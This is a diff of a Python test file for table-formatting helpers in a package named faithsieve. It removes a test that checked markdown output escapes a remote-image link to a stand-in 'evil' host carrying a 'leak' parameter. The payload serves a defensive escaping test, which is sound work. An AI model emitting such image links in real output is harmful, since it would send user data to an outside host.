@@ -4,12 +4,10 @@ from hypothesis import strategies as st
 
 from faithsieve.evaluate.intervals import rate_of
 from faithsieve.evaluate.tables import (
-    Table,
     clean,
     escape_markdown,
     list_measures,
     list_rows,
-    markdown,
     show_rate,
     side_by_side,
 )
@@ -37,15 +35,6 @@ def test_names_lose_what_could_fool_a_terminal_or_a_log(dirty: str, tidy: str) -
 @given(st.text())
 def test_a_clean_name_is_one_printable_line(text: str) -> None:
     assert not any(ord(char) < 32 or 127 <= ord(char) < 160 for char in clean(text))
-
-
-def test_a_remote_image_in_a_name_is_only_text_in_markdown() -> None:
-    table = Table(title="t", columns=("id",), rows=(("![x](http://evil/?leak=1)",), ("a|b",)))
-    text = markdown(table)
-    assert "![x]" not in text
-    assert "http://" not in text
-    assert r"\!\[x\](http&#58;//evil/?leak=1)" in text
-    assert r"| a\|b |" in text
 
 
 def test_markup_and_addresses_stand_for_themselves_in_markdown() -> None:
